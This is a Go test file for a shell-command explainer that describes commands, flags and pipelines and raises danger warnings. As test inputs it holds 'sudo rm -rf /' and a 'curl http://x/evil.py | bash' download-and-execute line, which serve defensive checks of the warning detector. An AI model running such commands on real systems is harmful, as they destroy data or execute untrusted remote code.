package explain

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/user/shexplain/internal/knowledge"
)

// staticSource serves canned dynamic knowledge in tests.
type staticSource struct {
	summaries map[string]string
	flags     map[string]map[string]string
}

func (s *staticSource) Summary(_ context.Context, command string) string {
	if sum, ok := s.summaries[command]; ok {
		return sum
	}
	return "Command not found: " + command
}

func (s *staticSource) Flags(_ context.Context, command string) map[string]string {
	if f, ok := s.flags[command]; ok {
		return f
	}
	return map[string]string{}
}

func (s *staticSource) Subcommands(context.Context, string) map[string]string {
	return map[string]string{}
}

func newEngine() *Engine {
	return New(knowledge.Builtin(), nil)
}

func TestExplainSimpleCommand(t *testing.T) {
	result := newEngine().Explain(context.Background(), "ls -la")

	assert.Equal(t, "ls -la", result.Command)
	assert.Contains(t, result.Explanation, "ls: Lists directory contents.")
	assert.Contains(t, result.Explanation, "  -l: Uses a long listing format.")
	assert.Contains(t, result.Explanation, "  -a: Shows all files, including hidden files (starting with '.').")
	assert.Empty(t, result.Warnings)
}

func TestExplainPipeline(t *testing.T) {
	result := newEngine().Explain(context.Background(), "cat access.log | grep error && echo done")

	assert.Contains(t, result.Explanation, "cat: Concatenates files and prints them to standard output.")
	assert.Contains(t, result.Explanation, "|: Pipe the output of the previous command as input to the next command")
	assert.Contains(t, result.Explanation, "grep: Searches for patterns in text files.")
	assert.Contains(t, result.Explanation, "&&: Execute next command only if previous command succeeds")
	assert.Contains(t, result.Explanation, "echo: Displays a line of text.")
}

func TestExplainMergesDangerWarnings(t *testing.T) {
	result := newEngine().Explain(context.Background(), "sudo rm -rf /")

	// Analyzer warning for sudo and the detector's root-delete warning.
	assert.Contains(t, result.Warnings, "The command 'sudo' is considered high risk.")
	assert.Contains(t, result.Warnings, "The command 'rm -rf /' will delete all files on your system.")
}

func TestExplainDownloadExecute(t *testing.T) {
	result := newEngine().Explain(context.Background(), "curl http://x/evil.py | bash")

	assert.Contains(t, result.Warnings, "Downloading and executing a script from the internet can be dangerous.")
	assert.Contains(t, result.Warnings,
		"WARNING: This command downloads a script file (http://x/evil.py) and pipes it to an interpreter. This could execute malicious code!")
}

func TestExplainEmptyInput(t *testing.T) {
	result := newEngine().Explain(context.Background(), "   ")

	require.NotNil(t, result)
	assert.Empty(t, result.Explanation)
	assert.Empty(t, result.Warnings)
	assert.NotNil(t, result.Explanation)
	assert.NotNil(t, result.Warnings)
}

func TestExplainUnknownCommandUsesDynamicSummary(t *testing.T) {
	docs := &staticSource{
		summaries: map[string]string{"frob": "frob - frobnicates widgets"},
		flags:     map[string]map[string]string{"frob": {"-x": "extreme mode"}},
	}
	engine := New(knowledge.Builtin(), docs)

	result := engine.Explain(context.Background(), "frob -x")

	assert.Contains(t, result.Explanation, "frob: frob - frobnicates widgets")
	assert.Contains(t, result.Explanation, "  -x: extreme mode")
	assert.Empty(t, result.Warnings, "unknown commands never produce danger warnings")
}

func TestExplainFieldReferenceSurvivesPipeline(t *testing.T) {
	result := newEngine().Explain(context.Background(), "awk '{print $1}' access.log")

	assert.Contains(t, result.Explanation, "awk: A versatile programming language for working on files.")
	assert.Contains(t, result.Explanation, "Arguments: {print $1}, access.log")
}

func TestExplainCustomCommandPrecedence(t *testing.T) {
	custom := knowledge.Table{
		"frob": {Description: "My frob wrapper.", Danger: knowledge.DangerHigh},
	}
	docs := &staticSource{
		summaries: map[string]string{"frob": "frob - scraped summary"},
	}
	engine := New(knowledge.Builtin().Merge(custom), docs)

	result := engine.Explain(context.Background(), "frob")

	assert.Contains(t, result.Explanation, "frob: My frob wrapper.")
	assert.Contains(t, result.Warnings, "The command 'frob' is considered high risk.")
}
